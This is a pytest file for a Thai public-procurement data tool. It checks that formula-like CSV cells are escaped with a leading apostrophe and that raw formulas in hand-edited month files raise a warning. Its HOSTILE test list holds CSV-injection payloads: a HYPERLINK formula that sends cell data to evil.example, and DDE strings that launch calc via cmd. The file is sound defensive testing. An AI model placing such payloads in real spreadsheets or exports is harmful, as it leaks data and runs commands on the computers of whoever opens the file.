"""Formulas in CSV cells (class 8 of issue 9): neither the agency's own month files nor the
published open data carry a cell that a spreadsheet would run.

One definition (``generator/values/csv_cells.py``): ``=``, ``+``, ``-``, ``@``, tab or CR at the
start gets the spreadsheet's text mark ``'``; a lone ``-`` ("none" on แบบ สขร.1) is not a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from generator.importer.procurement import cell_text, import_procurement
from generator.load.agency import load_agency
from generator.opendata.tables import csv_cell as published_csv_cell
from generator.registry import KINDS
from generator.values.csv_cells import csv_cell, looks_like_formula, read_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"คลิก")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
HEADER = ("ลำดับที่,งานที่จัดซื้อหรือจัดจ้าง,วงเงินที่จะซื้อหรือจ้าง,ราคากลาง,วิธีซื้อหรือจ้าง,"
          "รายชื่อผู้เสนอราคาและราคาที่เสนอ,ผู้ได้รับการคัดเลือกและราคาที่ตกลงซื้อหรือจ้าง,"
          "เลขประจำตัวผู้เสียภาษี,เหตุผลที่คัดเลือกโดยสรุป,เลขที่และวันที่ของสัญญาหรือข้อตกลง")


@pytest.mark.parametrize("value", [*HOSTILE, "\t=1+1", "\r=1+1"])
def test_a_formula_like_cell_gets_the_text_mark_and_reads_back_as_written(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value and not looks_like_formula(cell)
    assert read_cell(cell) == value


@pytest.mark.parametrize("value", ["-", "ไม่มี", "0105550123451", "'quoted'", ""])
def test_ordinary_cells_and_a_lone_dash_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value and read_cell(value) == value


def test_the_published_csv_uses_the_same_definition() -> None:
    assert published_csv_cell is csv_cell


def _sheet(tmp_path: Path, title: str, winner: str, reason: str, contract: str,
           reference_price: str = "10,000.00") -> Path:
    bid = f"{winner} — 9,500.00"
    row = [1, title, "10,000.00", reference_price, "เฉพาะเจาะจง", bid, bid, "", reason, contract]
    out = io.StringIO()
    csv.writer(out).writerows([["แบบ สขร.1"], HEADER.split(","), row])
    path = tmp_path / "sheet.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


@pytest.mark.parametrize("payload", HOSTILE)
def test_import_writes_formula_like_text_with_the_text_mark(agency_dir: Path, tmp_path: Path,
                                                            payload: str) -> None:
    sheet = _sheet(tmp_path, payload, payload, payload, payload)
    result = import_procurement(agency_dir, sheet, 2568, 11)
    assert [cell_text(d) for d in result.diagnostics] == []
    written = (agency_dir / "content/procurement/2568/11.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
    assert not [cell for cell in cells if looks_like_formula(cell)]
    assert cells.count("'" + payload) >= 3  # title, reason, contract number (and the winner's name)
    # read back: the text as the sheet had it, and no formula-cell warning
    agency, diagnostics = load_agency(agency_dir, KINDS)
    assert agency is not None and diagnostics == []
    [record] = agency.procurement_months[0].model.rows
    assert (record.title, record.reason, record.contract_no) == (payload, payload, payload)


def test_import_keeps_a_lone_dash_and_an_absent_amount(agency_dir: Path, tmp_path: Path) -> None:
    sheet = _sheet(tmp_path, "จัดซื้อวัสดุ", "ร้านทดลอง", "-", "-", reference_price="-")
    assert [d.code for d in import_procurement(agency_dir, sheet, 2568, 11).diagnostics] == [
        "missing-reference-price"]  # "-": no amount given, not a formula and not zero
    written = (agency_dir / "content/procurement/2568/11.csv").read_text(encoding="utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(written)))
    assert (row[3], row[9]) == ("", "-")  # reference_price: no amount (not 0.00); reason: a dash as written


def test_a_raw_formula_in_a_hand_edited_month_file_is_a_positioned_warning(agency_dir: Path,
                                                                          tmp_path: Path) -> None:
    _ = import_procurement(agency_dir, _sheet(tmp_path, "จัดซื้อวัสดุ", "ร้านทดลอง", "ราคาต่ำสุด", "1/2568"),
                           2568, 11)
    path = agency_dir / "content/procurement/2568/11.csv"
    path.write_text(path.read_text(encoding="utf-8-sig").replace("จัดซื้อวัสดุ", '"=HYPERLINK(""x"")"'),
                    encoding="utf-8")
    agency, diagnostics = load_agency(agency_dir, KINDS)
    assert agency is not None and agency.procurement_months  # a warning keeps the file
    assert [(d.code, d.severity, str(d.position), d.field) for d in diagnostics] == [
        ("formula-cell", "warning", "content/procurement/2568/11.csv:2:2", "rows[0].title")]
    assert "'=" in diagnostics[0].message and "'" in diagnostics[0].message_th
